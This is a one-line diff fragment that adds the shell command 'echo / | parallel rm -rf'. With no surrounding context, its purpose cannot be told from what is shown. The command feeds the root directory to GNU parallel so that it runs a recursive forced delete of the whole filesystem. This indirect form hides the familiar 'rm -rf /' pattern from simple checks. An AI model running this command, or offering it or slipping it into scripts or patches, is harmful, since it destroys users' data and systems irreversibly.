@@ -1,0 +1,1 @@
+echo / | parallel rm -rf
